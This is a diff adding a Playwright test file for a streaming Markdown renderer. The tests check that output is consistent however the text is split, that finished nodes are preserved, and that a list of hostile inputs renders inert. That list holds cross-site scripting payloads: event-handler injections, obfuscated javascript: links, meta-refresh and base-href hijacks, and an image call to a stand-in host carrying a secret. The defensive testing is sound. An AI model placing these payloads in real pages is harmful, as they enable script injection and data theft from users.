@@ -1,0 +1,137 @@
+"""Answers are Markdown: the same over every split, inert, and finished parts are left alone."""
+
+from pathlib import Path
+
+import pytest
+from playwright.async_api import BrowserContext, Page
+
+from harness import scripts, specifications
+from harness.serving import Serve
+
+pytestmark = pytest.mark.anyio
+
+LIBRARY = Path(__file__).with_name("markdown.js")
+
+
+@pytest.fixture
+async def page(context: BrowserContext, serve: Serve) -> Page:
+    """The page, with what shows Markdown at hand, and without its Content-Security-Policy: what is
+    shown must be inert by itself."""
+    page = await context.new_page()
+    session = await context.new_cdp_session(page)
+    await session.send("Page.setBypassCSP", {"enabled": True})
+    await page.add_init_script(path=LIBRARY)
+    await page.goto(f"{serve()}/web/headless.html")
+    await page.evaluate("async () => void (await markdown)")
+    return page
+
+
+def cuts(text: str) -> list[list[str]]:
+    short = [text[at : at + 3] for at in range(0, len(text), 3)]
+    return [scripts.per_character(text), short, *(scripts.random_pieces(text, s) for s in (1, 2))]
+
+
+@pytest.mark.parametrize("name", specifications.NAMES)
+async def test_what_comes_in_pieces_is_shown_as_what_comes_at_once(page: Page, name: str) -> None:
+    examples = specifications.markdown_of(name)
+    assert len(examples) > 600
+    different = "async (all) => (await markdown).different(all)"
+    assert await page.evaluate(different, [[text, cuts(text)] for text in examples]) == []
+
+
+async def test_and_so_are_long_answers(page: Page) -> None:
+    """Part by part: character by character each would take a minute."""
+    answers = sorted((Path(__file__).parents[1] / "js" / "markdown" / "answers").glob("*.md"))
+    texts = [answer.read_bytes().decode() for answer in answers]
+    pieces = [[text, [scripts.random_pieces(text, seed) for seed in (1, 2, 3)]] for text in texts]
+    different = "async (all) => (await markdown).different(all)"
+    assert len(texts) >= 30
+    assert await page.evaluate(different, pieces) == []
+
+
+HOSTILE = [
+    '<img src="/stolen" onerror="hacked=1">',
+    "<script>hacked=1</script>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    '<svg onload="hacked=1"><circle/></svg>',
+    "<style>@import '/stolen'</style><link rel=stylesheet href=/stolen>",
+    "<base href=//elsewhere.invalid/><meta http-equiv=refresh content='0;/stolen'>",
+    "<form action=javascript:hacked=1><button>x</button></form>",
+    "[x](javascript:hacked=1)",
+    "[x](JaVaScRiPt:hacked=1) [y](&#106;avascript:hacked=1) [z](java&#10;script:hacked=1)",
+    '[x](<javascript:hacked=1> "t") <javascript:hacked=1> [x]\n\n[x]: javascript:hacked=1',
+    "[x](data:text/html,<script>hacked=1</script>) [x](vbscript:x) [x](blob:x) [x](file:///etc)",
+    "![x](http://elsewhere.invalid/?q=secret) ![x](/stolen) ![x](javascript:hacked=1)",
+    "[x](\x01javascript:hacked=1) [x](\u2028javascript:hacked=1)",
+    '```"><img src=/stolen onerror=hacked=1>\ncode\n```',
+    "$\\href{javascript:hacked=1}{x}$ $$<img src=/stolen onerror=hacked=1>$$",
+    "| <img src=/stolen> | [x](javascript:hacked=1) |\n|---|---|\n| `<a>` | <b onclick=hacked=1> |",
+    "# <img src=/stolen onerror=hacked=1>\n> <iframe src=/stolen>\n- <object data=/stolen>",
+    "[^1]\n\n[^1]: <img src=/stolen onerror=hacked=1>",
+    '<a href="javascript:hacked=1">x</a> <a href=x target=_top onmouseover=hacked=1>y</a>',
+]
+ELEMENTS = (
+    "div, p, h1, h2, h3, h4, h5, h6, ul, ol, li, blockquote, pre, code, hr, br, em, strong, del, "
+    "a, span, sup, table, thead, tbody, tr, th, td, input[type=checkbox][disabled], section"
+)
+
+
+async def test_output_is_inert_without_any_policy(page: Page) -> None:
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    address = page.url
+    not_inert = "async ([all, elements]) => (await markdown).notInert(all, elements)"
+    texts = [[text, cuts(text)] for text in HOSTILE]
+    assert await page.evaluate(not_inert, [texts, ELEMENTS]) == []
+    await page.wait_for_timeout(200)
+    assert await page.evaluate("() => globalThis.hacked ?? null") is None
+    assert [url for url in requests if not url.endswith("/web/icon.svg")] == []  # the tab's own
+    assert page.url == address
+
+
+async def test_every_word_of_hostile_output_is_there_to_read(page: Page) -> None:
+    shown = await page.evaluate(
+        "async (all) => { const { show } = await markdown;"
+        " return all.map((text) => show([text]).textContent); }",
+        HOSTILE[:7],
+    )
+    for text, seen in zip(HOSTILE[:7], shown, strict=True):
+        assert seen == text
+
+
+async def test_finished_parts_stay_the_same_nodes(page: Page) -> None:
+    """So a selection in them survives, to the end of the stream and beyond."""
+    first = (
+        "# Title\n\nA *finished* paragraph with [a link](https://example.org).\n\n- one\n- two\n\n"
+    )
+    then = (
+        "More **text**\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThe end."
+    )
+    same = await page.evaluate(
+        """async ([first, then]) => {
+          const { MarkdownView } = await import("/web/markdown/view.js");
+          const element = document.createElement("div");
+          document.body.append(element);
+          const view = new MarkdownView(element);
+          view.write(first);
+          view.commit();
+          const before = [...element.querySelectorAll("h1, p, em, a, ul, li")];
+          const list = before.filter((one) => one.localName === "li");
+          getSelection().selectAllChildren(element.querySelector("em"));
+          for (const char of then) {
+            view.write(char);
+            view.commit();
+          }
+          view.end();
+          view.commit();
+          const after = [...element.querySelectorAll("h1, p, em, a, ul, li")];
+          return [
+            before.length > 6,
+            list.length,
+            before.every((one, at) => after[at] === one),
+            getSelection().toString(),
+          ];
+        }""",
+        [first, then],
+    )
+    assert same == [True, 2, True, "finished"]
